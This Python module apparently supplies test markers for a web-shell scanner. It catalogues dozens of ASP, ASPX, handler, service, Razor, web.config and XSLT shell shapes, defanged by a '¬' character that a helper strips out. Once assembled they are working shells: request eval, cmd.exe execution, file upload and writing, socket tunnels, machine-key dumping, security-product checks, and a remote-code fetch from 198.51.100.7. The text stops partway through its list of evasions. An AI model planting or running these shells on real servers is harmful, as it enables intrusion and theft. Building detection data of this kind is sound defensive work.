# ruff: noqa: E501
"""Shapes of web shells, as short markers.

Each is one thing that shells do, cut down to what makes it one. The mark `¬` stands within the
words that would run; `assembled` takes it out, so that no file of the repository holds a shell.
"""

from __future__ import annotations

MARK = "¬"


def assembled(text: str) -> str:
    """The marker as the scanner sees it."""
    return text.replace(MARK, "")


ASP = {
    "eval": '<%ev¬al req¬uest("none")%>',
    "eval brackets": '<%ev¬al(req¬uest("none"))%>',
    "execute": '<% exec¬ute req¬uest("none") %>',
    "execute brackets": '<%exec¬ute(req¬uest("none"))%>',
    "global": '<%Exec¬uteGlobal req¬uest("none")%>',
    "form": '<%ev¬al req¬uest.form("none")%>',
    "item": '<%ev¬al(Req¬uest.Item["none"],"unsafe");%>',
    "hash": '<%ev¬al req¬uest("#")%>',
    "chr": "<%ev¬al req¬uest(chr(35))%>",
    "through a name": '<%r=req¬uest("none"):exec¬ute r%>',
    "through two blocks": '<%r=req¬uest("none")%> <%ev¬al r%>',
    "guarded": '<%If Req¬uest("none")<>"" Then Exec¬ute(Req¬uest("none"))%>',
    "image": 'GIF89a\n<%ev¬al req¬uest("none")%>',
    "script element": (
        '<script language="vbscript" runat="server">exec¬ute req¬uest("none")</script>'
    ),
    "script element bare": (
        "<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>ev¬al(Req¬uest.form('none')+'')</SCRIPT>"
    ),
    "session": (
        '<%if req¬uest("none")<>"" then sess¬ion("a")=req¬uest("none")\n'
        'if sess¬ion("a")<>"" then exec¬ute(sess¬ion("a"))%>'
    ),
    "pieces": '<%exec¬uteglobal "ev"&"al r"&"equ"&"est(""none"")"%>',
    "pieces in names": '<%a="ev"&"al ":b="req"&"uest(""none"")"\nexec¬ute a&b%>',
    "reversed": '<%exec¬ute(strrev¬erse(")""enon""(tse" & "uqer la" & "ve"))%>',
    "own decoder": (
        '<%Function z(c)\nz=Replace(Replace(StrRev¬erse(c),"/*/",""""),"*",vbCrlf)\n'
        'End Function\nExec¬ute z(")/*/enon/*/(tseuqer lave")%>'
    ),
    "own decoder, long text": (
        "<%Function un(s)\nFor i=1 To Len(s) Step 2\nun=un&Chr(Asc(Mid(s,i,1))-1)\nNext\n"
        'End Function\np="' + "kjhgfqwzxp" * 60 + '"\nExec¬uteGlobal(un(p))%>'
    ),
    "hex text": (
        '<%Function h(s)\nFor i=1 To Len(s) Step 2\nh=h&Chr(CLng("&H"&Mid(s,i,2)))\nNext\n'
        'End Function\nexec¬ute(h("6576616c2072657175657374282261222900"))%>'
    ),
    "character numbers": (
        "<%exec¬ute(chr(101)&chr(118)&chr(97)&chr(108)&chr(32)&chr(114)&chr(101)&chr(113)&chr(117)"
        "&chr(101)&chr(115)&chr(116)&chr(40)&chr(34)&chr(110)&chr(34)&chr(41))%>"
    ),
    "unescape": '<%exec¬ute(unesc¬ape("eval%20request%28%22none%22%29"))%>',
    "binary body": (
        'k="0123456789abcdef"\n<%size=Req¬uest.TotalBytes\nc=Req¬uest.BinaryRead(size)\n'
        "For i=1 To size\nr=r&Chr(ascb(midb(c,i,1)) Xor Asc(Mid(k,(i and 15)+1,1)))\nNext\n"
        "exec¬ute(r)%>"
    ),
    "godzilla": (
        '<%\nSet d = Server.CreateObject("Scripting.Dictionary")\nFunction B(ByVal v)\n'
        'Set n = CreateObject("Msxml2.DOMDocument").CreateElement("x")\nn.dataType="bin.base64"\n'
        "n.text=v\nB=n.nodeTypedValue\nEnd Function\nFunction dec(c,isbin)\nFor i=1 To LenB(c)\n"
        "r=r&ChrB(AscB(MidB(c,i,1)) Xor 7)\nNext\ndec=r\nEnd Function\n"
        'x=dec(B(req¬uest.Form("none")),true)\nif not IsEmpty(Sess¬ion("p")) then\n'
        'exec¬uteglobal(Sess¬ion("p"))\nelse\nSess¬ion("p")=x\nend if%>'
    ),
    "script control": (
        '<%set ms = server.CreateObject("MSScriptControl.ScriptControl.1")\nms.Language="VBScript"\n'
        'ms.AddObject "Response", Response\nms.AddObject "request", req¬uest\n'
        'ms.Exec¬uteStatement("ev¬al(request(""none""))")%>'
    ),
    "class": (
        '<%Class A\nprivate sub Class_Initialize\nb = req¬uest("none")\nexec¬ute(b)\nend sub\n'
        "End Class\nset c = new A%>"
    ),
    "jscript": "<%@ language=jscript %><%var a=Req¬uest('none')+'';ev¬al(a);%>",
    "jscript function": '<%@ language="javascript"%><% new Func¬tion(Req¬uest("none"))() %>',
    "fetched": (
        '<%Set x=Server.CreateObject("Microsoft.XMLHTTP")\nx.Open "GET","http://198.51.100.7/a.txt",0\n'
        "x.Send\nExec¬uteGlobal x.resp¬onseText%>"
    ),
    "from a picture": (
        '<%set f=server.createobject("scripting.filesystemobject")\n'
        'exec¬ute f.opentextfile(server.mappath("logo.jpg")).readall%>'
    ),
    "picture included": '<!--#include file="logo.gif"-->\n<%response.write "x"%>',
    "wscript": (
        '<%Response.Write server.createobject("wscr¬ipt.shell").ex¬ec("cmd.exe /c "&req¬uest("none"))'
        ".stdout.readall%>"
    ),
    "wscript, names": (
        '<%Dim o, c, t\nOn Error Resume Next\nSet o = Server.CreateObject("WSCR¬IPT.SHELL")\n'
        'c = Req¬uest.Form("none")\nIf c <> "" Then\nt = "C:\\x.tmp"\n'
        'Call o.Run ("cmd.exe /c " & c & " > " & t, 0, True)\nEnd If%>'
    ),
    "wscript, split": (
        '<%Set o=Server.CreateObject("WScr"&"ipt.Sh"&"ell")\nSet e=o.ex¬ec(req¬uest("none"))\n'
        "Response.Write e.StdOut.ReadAll%>"
    ),
    "class number": (
        '<object runat=server id=ws classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>\n'
        '<%if req¬uest("none")<>"" then\nresponse.write ws.ex¬ec("cmd /c "&req¬uest("none")).stdout.readall\n'
        "end if%>"
    ),
    "shell application": (
        '<%set s=server.createobject("shell.appl¬ication")\n'
        's.ShellEx¬ecute req¬uest("a"),req¬uest("b"),"","open",0%>'
    ),
    "small writer": (
        '<%on error resume next\nofso="scripting.filesystemobject"\nset fso=server.createobject(ofso)\n'
        'path=req¬uest("path")\nif path<>"" then\ndata=req¬uest("none")\n'
        "set d=fso.createtextfile(path,true)\nd.wr¬ite data\nend if%>\n"
        '<form method=post><input name=path><textarea name="none"></textarea><input type=submit></form>'
    ),
    "stream writer": (
        '<%set s=server.createobject("adodb.str¬eam")\ns.type=2\ns.open\n'
        's.writetext req¬uest("none")\ns.savetof¬ile server.mappath(req¬uest("f")),2%>'
    ),
    "stream, class number": (
        '<object runat="server" id="st" classid="clsid:00000566-0000-0010-8000-00AA006D2EA4"></object>\n'
        '<%st.Type=2\nst.Open\nst.WriteText Req¬uest("none")\nst.SaveToF¬ile Req¬uest("f"),2%>'
    ),
    "downloader": (
        '<%Set x=CreateObject("Microsoft.XMLHTTP")\nx.open "GET",req¬uest("u"),false\nx.send\n'
        'Set s=CreateObject("ADODB.Str¬eam")\ns.type=1\ns.open\ns.write x.resp¬onseBody\n'
        's.SaveToF¬ile Server.MapPath(req¬uest("f")),2%>'
    ),
    "file manager": (
        '<%dim d,fso\nd=req¬uest("d")\nif d="" then d=server.mappath(".")\n'
        'set fso=server.createobject("scripting.filesystemobject")\nset g=fso.getfolder(d)\n'
        "for each f in g.files\nresponse.write f.name\nnext\n"
        'if req¬uest("a")="del" then fso.deletef¬ile d&"\\"&req¬uest("f")\n'
        'if req¬uest("a")="edit" then response.write fso.opentextfile(d&"\\"&req¬uest("f")).readall\n'
        "for each v in fso.drives\nresponse.write v\nnext%>"
    ),
    "serv-u": (
        '<%user = req¬uest("u")\nc = "USER " & user & vbCrLf & "SITE MAINTENANCE" & vbCrLf\n'
        'Set x = CreateObject("Microsoft.XMLHTTP")\nx.open "GET", "http://127.0.0.1:43958/", True\n'
        'x.send c & "-SETUSERSETUP" & vbCrLf & "cmd /c net user a b /add"%>'
    ),
    "database console": (
        '<%set c=server.createobject("adodb.connection")\nc.open req¬uest("conn")\n'
        'set rs=c.exec¬ute(req¬uest("sql"))\nresponse.write rs.getstring%>'
    ),
    "sql shell": (
        '<%set c=server.createobject("adodb.connection")\nc.open "driver={sql server};server="&s\n'
        'set rs=c.exec¬ute("exec master.dbo.xp_cmdsh¬ell \'"&req¬uest("none")&"\'")%>'
    ),
    "wmi": (
        '<%Set w=GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Proc¬ess")\n'
        'w.Cre¬ate req¬uest("none"),null,null,p%>'
    ),
    "perl": "<%@ language=PerlScript %><% $r = $Req¬uest->Form('none')->Item; ev¬al($r); %>",
    "drops a page": (
        '<%set f=server.createobject("scripting.filesystemobject").createtextfile('
        'server.mappath("n.asp"))\nf.write "<"&"%ev¬al req¬uest(""none"")%"&">"%>'
    ),
    "odd case and comments": '<%  EvAl\t_\n  REQ¬UEST ( "none" ) \' nothing\n%>',
    "html comment": '<!-- <%ev¬al req¬uest("none")%> -->',
    "cookie": '<%exec¬ute req¬uest.cookies("none")%>',
    "header": '<%ev¬al req¬uest.servervariables("HTTP_NONE")%>',
}

ASPX = {
    "jscript": '<%@ Page Language="Jscript"%><%ev¬al(Req¬uest.Item["none"],"unsafe");%>',
    "jscript, no attribute": "<%@ Page Language=JS%><%ev¬al(Req¬uest['none'],'unsafe')%>",
    "load handler": (
        '<script language="JScript" runat="server">function Page_Load(){/**/ev¬al(Req¬uest["none"],'
        '"unsafe");}</script>'
    ),
    "escapes": (
        '<%@PAGE LANGUAGE=JSCRIPT%><%var PAY:String=Req¬uest["\\x61\\x62"];'
        'ev¬al(PAY,"\\x75\\x6E\\x73\\x61\\x66\\x65");%>'
    ),
    "base64 body": (
        '<%@ Page Language="Jscript"%><%ev¬al(System.Text.Encoding.GetEncoding(65001).GetString('
        'System.Convert.FromBase64String(Req¬uest.Item["none"])),"unsafe");%>'
    ),
    "hidden letters": (
        '<%@ Page Language="Jscript"%><%\\u0065\\u0076\\u0061\\u006c('
        '\\u0052equest.Item["none"],"unsafe");%>'
    ),
    "by index": (
        '<%@ Page Language="JScript"%><%var q="ev"+"al";this[q](Req¬uest["none"],"un"+"safe");%>'
    ),
    "function": '<%@ Page Language="JScript"%><%new Func¬tion(Req¬uest["none"])();%>',
    "jscript from C#": (
        '<%@ Page Language="C#"%><%@ Assembly Name="Microsoft.JScript"%><script runat="server">'
        "void Page_Load(object s, EventArgs e){ Microsoft.JScript.Ev¬al.JScriptEv¬aluate("
        'Req¬uest["none"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine()); }</script>'
    ),
    "behinder": (
        '<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%'
        'Sess¬ion.Add("k","0123456789abcdef"); byte[] k = Encoding.Default.GetBytes(Sess¬ion[0] + ""),'
        "c = Req¬uest.BinaryRead(Req¬uest.ContentLength);Assem¬bly.Load(new System.Security."
        "Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length))"
        '.CreateInstance("U").Equals(this);%>'
    ),
    "godzilla": (
        '<%@ Page Language="C#"%><%try { string key = "0123456789abcdef"; byte[] data = new System.'
        "Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default."
        "GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock("
        "Context.Req¬uest.BinaryRead(Context.Req¬uest.ContentLength), 0, 10);\n"
        'if (Context.Sess¬ion["payload"] == null) { Context.Sess¬ion["payload"] = (System.Reflection.'
        'Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof('
        "byte[]) }).Inv¬oke(null, new object[] { data }); } else { object o = ((System.Reflection."
        'Assembly)Context.Sess¬ion["payload"]).CreateInstance("LY"); o.Equals(Context); } } catch { }%>'
    ),
    "session assembly": (
        '<%@ Page Language="C#"%><%if(Sess¬ion["a"]==null){Sess¬ion["a"]=Req¬uest.BinaryRead(9);}else{'
        'byte[] b=(byte[])Sess¬ion["a"];System.Reflection.Assem¬bly.Load(b).CreateInstance("R");}%>'
    ),
    "carried assembly": (
        '<%@ Page Language="C#"%><%@ Import Namespace="System.Reflection" %><script runat="server">'
        "void Page_Load(object s, EventArgs e){ byte[] a = {0x4d,0x5a,0x90}; for(int i=0;i<a.Length;i++)"
        'a[i]^=0x21; Assembly m = Assem¬bly.Load(a); object o = m.CreateInstance("P");'
        'o.GetType().GetMethod("Run").Inv¬oke(o,new object[]{Req¬uest.Form["none"]}); }</script>'
    ),
    "command": (
        '<%@ Page Language="C#" Debug="true" Trace="false" %><%@ Import Namespace="System.Diagnostics" %>'
        '<script runat="server">string Run(string arg){ Proc¬essStartInfo psi = new Proc¬essStartInfo();'
        'psi.FileName = "cmd.exe"; psi.Arguments = "/c "+arg; psi.RedirectStandardOutput = true;'
        "Process p = Proc¬ess.Start(psi); return p.StandardOutput.ReadToEnd(); }\n"
        "void go_Click(object s, EventArgs e){ Response.Write(Server.HtmlEncode(Run(txtArg.Text))); }"
        '</script><form runat="server"><asp:TextBox id="txtArg" runat="server"/>'
        '<asp:Button id="go" runat="server" OnClick="go_Click"/></form>'
    ),
    "command, free file": (
        '<%@ Page Language="C#"%><%var p=new System.Diagnostics.Proc¬ess();p.StartInfo.FileName='
        'Req¬uest["a"];p.StartInfo.Arguments=Req¬uest["b"];p.Start();%>'
    ),
    "command, initializer": (
        '<%@ Page Language="C#"%><% System.Diagnostics.Proc¬ess.Start(new System.Diagnostics.'
        'Proc¬essStartInfo { FileName = "cmd.exe", Arguments = $"/c {Req¬uest["none"]}" }); %>'
    ),
    "command, alias": (
        '<%@ Page Language="C#"%><%@ Import Namespace="P=System.Diagnostics" %><script runat="server">'
        'void Page_Load(object s, EventArgs e){ var c = Req¬uest.Headers["X-None"]; if (c != null) {'
        'var q = new P.Proc¬ess(); q.StartInfo.FileName="cm"+"d.e"+"xe"; q.StartInfo.Arguments="/c "+c;'
        "q.Start(); } }</script>"
    ),
    "command, VB": (
        '<%@ Page Language="VB" %><script runat="server">\nSub RunCmd(Src As Object, E As EventArgs)\n'
        'Dim p As New Proc¬ess()\nDim i As New Proc¬essStartInfo("cmd.exe")\n'
        'i.Arguments = "/c " & xcmd.text\np.StartInfo = i\np.Start()\n'
        "result.text = p.StandardOutput.ReadToEnd()\nEnd Sub\n</script>\n"
        '<form runat="server"><asp:TextBox id="xcmd" runat="server" /><asp:Label id="result" runat="server"/></form>'
    ),
    "command, VB shell": (
        '<%@ Page Language="VB" %><% Sh¬ell("cmd /c " & Req¬uest("none") & " > c:\\a.txt") %>'
    ),
    "command, standard input": (
        '<%@ Page Language="C#"%><% var p = new System.Diagnostics.Proc¬ess(); p.StartInfo.FileName = '
        '"cmd"; p.Start(); p.StandardInput.WriteLine(Req¬uest.Form["none"]); %>'
    ),
    "powershell": (
        '<%@ Page Language="C#"%><%@ Import Namespace="System.Management.Automation" %><script runat="server">'
        "void go(object s, EventArgs e){ var r = RunspaceFactory.CreateRunspace(); r.Open();"
        "var p = r.CreatePipeline(); p.Commands.AddScr¬ipt(box.Text); p.Invoke(); }</script>"
        '<asp:TextBox ID="box" runat="server" />'
    ),
    "compiler": (
        '<%@ Page Language="C#"%><%var c=new Microsoft.CSharp.CSharpCodeProvider();var p=new System.'
        "CodeDom.Compiler.CompilerParameters();p.GenerateInMemory=true;var r=c.Compile"
        'Assembly¬FromSource(p,Req¬uest.Form["none"]);r.CompiledAssembly.CreateInstance("X");%>'
    ),
    "reflection": (
        '<%@ Page Language="C#"%><%var t=Type.GetType(Req¬uest["t"]);'
        't.GetMethod(Req¬uest["m"]).Inv¬oke(null,new object[]{Req¬uest["a"]});%>'
    ),
    "split reflection": (
        '<%@ Page Language="C#"%><%var t=Type.GetType("System.Dia"+"gnostics.Pro"+"cess, System");'
        't.GetMethod("St"+"art",new[]{typeof(string),typeof(string)}).Inv¬oke(null,new object[]{'
        'Req¬uest["a"],Req¬uest["b"]});%>'
    ),
    "deserializer": (
        '<%@ Page Language="C#"%><%new System.Runtime.Serialization.Formatters.Binary.'
        "BinaryFormatter().Deser¬ialize(new System.IO.MemoryStream(Convert.FromBase64String("
        'Req¬uest["none"])));%>'
    ),
    "los formatter": (
        '<%@ Page Language="C#"%><%var f=new LosFormatter();f.Deser¬ialize(Req¬uest.Form["none"]);%>'
    ),
    "transformation": (
        '<%@ Page Language="C#"%><%@ Import Namespace="System.Xml"%><%'
        'string xml=@"<root>x</root>"; string xslt=System.Text.Encoding.UTF8.GetString(Convert.'
        'FromBase64String(Req¬uest.Form["none"])); XmlDocument d=new XmlDocument(); d.LoadXml(xml);'
        "XmlDocument x=new XmlDocument(); x.LoadXml(xslt); System.Xml.Xsl.XslCompiledTransform t=new "
        "System.Xml.Xsl.XslCompiledTransform(); t.Load(x,System.Xml.Xsl.XsltSettings.TrustedXslt,new "
        "XmlUrlResolver()); t.Transform(d,null,new System.IO.MemoryStream());%>"
    ),
    "machine code": (
        '<%@ Page Language="C#" %><script runat="server">[DllImport("kernel32")] static extern IntPtr '
        'VirtualAl¬loc(IntPtr a,UIntPtr b,int c,IntPtr d); [DllImport("kernel32")] static extern IntPtr '
        "CreateTh¬read(IntPtr a,UIntPtr b,IntPtr c,IntPtr d,int e,ref IntPtr f);\n"
        "void Page_Load(object s, EventArgs e){ byte[] b = new byte[2] {0x90,0x90}; IntPtr z = "
        "VirtualAl¬loc(IntPtr.Zero,(UIntPtr)b.Length,0x1000,(IntPtr)0x40); }</script>"
    ),
    "native shell": (
        '<%@ Page Language="C#" %><script runat="server">[DllImport("ws2_32.dll")] static extern IntPtr '
        'WSASo¬cket(int a,int b,int c,IntPtr d,uint e,uint f); [DllImport("kernel32.dll")] static extern '
        "bool CreatePro¬cess(string a,string b); void Page_Load(object s, EventArgs e){ }</script>"
    ),
    "seesharp": (
        '<%@ Page Language="C#" %><%if (Req¬uest.Files.Count!=0) { HttpPostedFile f = Req¬uest.Files[0];'
        'f.Save¬As(System.IO.Path.Combine(Server.MapPath("/aspnet_client"), "n.aspx")); }%>'
    ),
    "upload anywhere": (
        '<%@ Page Language="C#" %><script runat="server">void b_Click(object s, EventArgs e){'
        "f.PostedFile.Save¬As(p.Text + f.FileName); }</script><form runat=server>"
        '<asp:FileUpload id="f" runat="server"/><asp:TextBox id="p" runat="server"/></form>'
    ),
    "upload beside": (
        '<%@ Page Language="C#" %><script runat="server">protected void b_Click(object s, EventArgs e){'
        'if (f.HasFile) f.Save¬As(Server.MapPath(".") + "\\\\" + f.FileName); }</script>'
        '<form runat="server"><asp:FileUpload id="f" runat="server"/><asp:Button id="b" runat="server" '
        'OnClick="b_Click"/></form>'
    ),
    "text writer": (
        '<%@ Page Language="C#"%><%System.IO.File.WriteAll¬Text(Server.MapPath(Req¬uest["f"]),'
        'Req¬uest["none"]);%>'
    ),
    "text writer, one page": (
        '<%@ Page Language="C#"%><%System.IO.StreamWriter w=new System.IO.StreamWriter(Server.MapPath('
        '"n.aspx"));w.Wr¬ite(Req¬uest["none"]);w.Close();%>'
    ),
    "bytes writer": (
        '<%@ Page Language="C#"%><%System.IO.File.WriteAll¬Bytes(Req¬uest["f"],Convert.'
        'FromBase64String(Req¬uest["none"]));%>'
    ),
    "fetcher": (
        '<%@ Page Language="C#"%><%new System.Net.WebClient().Down¬loadFile(Req¬uest["u"],Req¬uest["f"]);%>'
    ),
    "time stomper": (
        '<%@ Page Language="C#"%><%string p=Req¬uest["p"]; foreach(var d in System.IO.Directory.'
        "GetFiles(p)) Response.Write(d); System.IO.File.SetLast¬WriteTime(p,DateTime.Parse("
        'Req¬uest["t"]));%>'
    ),
    "file manager": (
        '<%@ Page Language="C#"%><script runat="server">void Page_Load(object s, EventArgs e){ string d = '
        'Req¬uest["d"] ?? Server.MapPath("."); foreach (var i in new System.IO.DirectoryInfo(d)'
        '.GetFiles()) Response.Write(i.Name); if (Req¬uest["x"] != null) System.IO.File.Del¬ete('
        'Req¬uest["x"]); if (Req¬uest["v"] != null) Response.Write(System.IO.File.ReadAll¬Text('
        'Req¬uest["v"])); foreach (var v in System.IO.Directory.GetLogicalDrives()) Response.Write(v); }'
        "</script>"
    ),
    "regeorg": (
        '<%@ Page Language="C#"%><%@ Import Namespace="System.Net.Sockets" %><% if (Req¬uest.HttpMethod '
        '== "POST") { string cmd = Req¬uest.Headers["X-None"]; if (cmd == "CONNECT") { string t = '
        'Req¬uest.Headers["X-T"]; int p = int.Parse(Req¬uest.Headers["X-P"]); Soc¬ket s = new Soc¬ket('
        "AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(t, p); s.Blocking "
        '= false; Sess¬ion.Add("s", s); } else if (cmd == "FORWARD") { Soc¬ket s = (Soc¬ket)Sess¬ion['
        '"s"]; byte[] b = new byte[9]; Req¬uest.InputStream.Read(b, 0, 9); s.Send(b); } else { Soc¬ket s '
        '= (Soc¬ket)Sess¬ion["s"]; byte[] b = new byte[9]; int n = s.Receive(b); Response.BinaryWrite('
        "b); } } %>"
    ),
    "pystinger": (
        '<%@ Page Language="C#"%><% string u = "http://127.0.0.1:60010/" + Req¬uest["e"]; byte[] b = '
        "Req¬uest.BinaryRead(Req¬uest.ContentLength); var r = System.Net.Web¬Request.Create(u); "
        "r.GetRequestStream().Write(b, 0, b.Length); %>"
    ),
    "sql console": (
        '<%@ Page Language="C#"%><%var c = new System.Data.SqlClient.SqlConn¬ection(Req¬uest["c"]); '
        'c.Open(); var q = new System.Data.SqlClient.SqlComm¬and(Req¬uest["q"], c); '
        "q.ExecuteNonQuery();%>"
    ),
    "key printer": (
        '<%@ Page Language="C#"%><script runat="server">void Page_Load(){ var sy = System.Reflection.'
        'Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");'
        'var m = sy.GetType("System.Web.Configuration.Machine¬KeySection"); var c = m.GetMethod('
        '"GetApplicationConfig", System.Reflection.BindingFlags.Static | System.Reflection.'
        "BindingFlags.NonPublic); var k = (System.Web.Configuration.Machine¬KeySection)c.Invoke(null, "
        "new object[0]); Response.Write(k.ValidationKey+k.DecryptionKey); }</script>"
    ),
    "security check": (
        '<%@ Page Language="C#"%><% var n = 0; if (System.IO.File.Exists(@"C:\\Windows\\xagt.exe")) n+=1;'
        "foreach (var s in System.ServiceProcess.ServiceController.GetServices()) { if (s.ServiceName == "
        '"CSFalconService") n+=2; if (s.ServiceName == "SentinelOne") n+=4; if (s.ServiceName == '
        '"CarbonBlack") n+=8; } Response.Write(n); %>'
    ),
    "listener": (
        '<%@ Page Language="C#"%><% var l = new System.Net.Http¬Listener(); l.Prefixes.Add('
        '"http://*:80/none/"); l.Start(); %>'
    ),
    "no directive": '<script runat="server" language="c#">void Page_Load(object s,EventArgs e){'
    'System.Diagnostics.Proc¬ess.Start("cmd.exe","/c "+Req¬uest["none"]);}</script>',
    "below a page": (
        '<%@ Page Language="C#" Inherits="Some.App.Logon" %><html><body>sign in</body></html>\n'
        '<script language="JScript" runat="server">function Page_Load(){ev¬al(Req¬uest["none"],"unsafe")}'
        "</script>"
    ),
    "wmi": (
        '<%@ Page Language="C#"%><% var m = new System.Management.ManagementClass("Win32_Proc¬ess"); '
        'm.InvokeMethod("Cre¬ate", new object[]{Req¬uest["none"]}); %>'
    ),
    "IIS of JScript": (
        '<%@ Page Language="JScript"%><%var o=new ActiveXObject("WScr¬ipt.Shell");'
        'Response.Write(o.ex¬ec("cmd /c "+Req¬uest["none"]).StdOut.ReadAll());%>'
    ),
}

OTHER = {
    "a.ashx": {
        "jscript": (
            '<%@ WebHandler Language="JScript" class="H"%>\nimport System;\nimport System.Web;\n'
            "public class H implements IHttpHandler{\nfunction IHttpHandler.ProcessRequest(context : "
            'HttpContext){ context.Response.Write(ev¬al(context.Req¬uest["none"])); }\n'
            "function get IHttpHandler.IsReusable() : Boolean{return true;}}"
        ),
        "command": (
            '<%@ WebHandler Language="C#" Class="H" %>\nusing System;\nusing System.Web;\n'
            "public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { var r = "
            'context.Req¬uest; var p = new System.Diagnostics.Proc¬ess(); p.StartInfo.FileName = "cmd";'
            'p.StartInfo.Arguments = "/c " + r["none"]; p.Start(); } public bool IsReusable { get { '
            "return false; } } }"
        ),
        "drops a page": (
            '<%@ WebHandler Language="C#" class="H" %>\nusing System; using System.Web; using System.IO;\n'
            "public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { "
            'StreamWriter f = File.CreateText(context.Server.MapPath("n.aspx")); f.Write("<%@ Page '
            'Language=\\"Jscript\\"%><%ev¬al(Req¬uest.Item[\\"none\\"],\\"unsafe\\");%>"); f.Flush(); } '
            "public bool IsReusable { get { return false; } } }"
        ),
        "uploads": (
            '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web; using System.IO;\npublic class '
            "H : IHttpHandler { public void ProcessRequest(HttpContext context) { var f = context."
            'Req¬uest.Files[0]; f.Save¬As(context.Req¬uest["p"]); } public bool IsReusable { get { '
            "return false; } } }"
        ),
        "tunnel": (
            '<%@ WebHandler Language="C#" Class="T" %>\nusing System; using System.Web; using '
            "System.Net.Sockets; public class T : IHttpHandler, System.Web.SessionState."
            "IRequiresSessionState { public void ProcessRequest(HttpContext context) { string t = "
            'context.Req¬uest.QueryString["t"]; int p = int.Parse(context.Req¬uest.QueryString["p"]); '
            "Soc¬ket s = new Soc¬ket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); "
            's.Connect(t, p); context.Sess¬ion["s"] = s; var b = new byte[99]; context.Req¬uest.'
            "InputStream.Read(b, 0, 99); s.Send(b); s.Receive(b); context.Response.BinaryWrite(b); } }"
        ),
    },
    "a.asmx": {
        "jscript": (
            '<%@ WebService LANGUAGE="JScript" class="S"%>\nimport System;\nimport System.Web.Services;\n'
            "public class S extends WebService\n{\nWebMethodAttribute function Invoke(none: String) : "
            'String { var q = System.Convert.FromBase64String(none); return ev¬al(none, "unsafe"); } }'
        ),
        "method": (
            '<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services; using System.'
            "Diagnostics;\npublic class S : WebService { [WebMethod] public string Do(string none) { "
            'var i = new Proc¬essStartInfo("cmd.exe", "/c " + none); i.RedirectStandardOutput = true; '
            "return Proc¬ess.Start(i).StandardOutput.ReadToEnd(); } }"
        ),
        "writer": (
            '<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services; using System.IO;\n'
            "public class S : WebService { [WebMethod] public void Put(string path, string none) { "
            "File.WriteAll¬Bytes(path, System.Convert.FromBase64String(none)); } }"
        ),
    },
    "a.soap": {
        "method": (
            '<%@ WebService Language="C#" Class="Service" %>\nusing System; using System.Web;\npublic '
            "class Service : System.Web.Services.WebService { [System.Web.Services.WebMethod] public "
            'string T(string a, string b) { var c = new System.Diagnostics.Proc¬essStartInfo(a, "/c " + '
            "b); return System.Diagnostics.Proc¬ess.Start(c).StandardOutput.ReadToEnd(); } }"
        ),
    },
    "a.svc": {
        "operation": (
            '<%@ ServiceHost Language="C#" Debug="true" Service="A.S" %>\nusing System.ServiceModel;\n'
            "namespace A { [ServiceContract] public class S { [OperationContract] public string X(string "
            'none) { return System.Diagnostics.Proc¬ess.Start("cmd.exe", "/c " + none).ToString(); } } }'
        ),
    },
    "a.ascx": {
        "control": (
            '<%@ Control Language="C#" %><script runat="server">protected void Page_Load(object s, '
            'System.EventArgs e){ System.Diagnostics.Proc¬ess.Start("cmd.exe", "/c " + Req¬uest["none"]); }'
            "</script>"
        ),
    },
    "a.cshtml": {
        "block": (
            '@{ var c = Req¬uest["none"]; if (c != null) { var p = new System.Diagnostics.Proc¬ess(); '
            'p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + c; p.Start(); } }\n<p>x</p>'
        ),
        "expression": (
            '<p>don\'t</p>@System.Diagnostics.Proc¬ess.Start("cmd.exe", "/c " + Req¬uest["none"])'
        ),
        "functions": (
            "@using System.Diagnostics\n@functions { string Run(string a) { var i = new "
            'Proc¬essStartInfo("cmd.exe"); i.Arguments = "/c " + a; return Proc¬ess.Start(i).'
            'StandardOutput.ReadToEnd(); } }\n<pre>@Run(Req¬uest["none"])</pre>'
        ),
    },
    "web.config": {
        "classic": (
            '<?xml version="1.0"?><configuration><system.webServer><handlers accessPolicy="Read, Script, '
            'Write"><add name="web_config" path="*.config" verb="*" modules="IsapiModule" '
            'scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" /></handlers>'
            '</system.webServer></configuration>\n<!-- <% ev¬al req¬uest("none") %> -->'
        ),
        "picture handler": (
            '<configuration><system.webServer><handlers><add name="p" path="*.jpg" verb="*" '
            'type="System.Web.UI.PageHandlerFactory" /></handlers></system.webServer><system.web>'
            '<compilation><buildProviders><add extension=".jpg" type="System.Web.Compilation.'
            'PageBuildProvider"/></buildProviders></compilation></system.web></configuration>'
        ),
    },
    "a.xslt": {
        "script": (
            '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
            'xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:u="u"><msxsl:script language="C#" '
            'implements-prefix="u"><![CDATA[ public string x(){ var c = System.Web.HttpContext.Current.'
            'Req¬uest["none"]; return System.Diagnostics.Proc¬ess.Start("cmd.exe","/c "+c).ToString(); } '
            "]]></msxsl:script></xsl:stylesheet>"
        ),
    },
}


# Ways of hiding, each around one of the shapes above.
EVASIONS: dict[str, tuple[str, str]] = {
    "numbers in an array": (
        "a.asp",
        ("<%arr=Array(101,118,97,108,32,114):for each c in arr:s=s&chr(c):next:exec¬ute s%>"),
    ),
    "With block": ("a.asp", ('<%With Req¬uest\nExec¬ute(.Form("none"))\nEnd With%>')),
    "object of the request": ("a.asp", ('<%Set x=Req¬uest:y=x("none"):exec¬ute(y)%>')),
    "code in code": (
        "a.asp",
        (
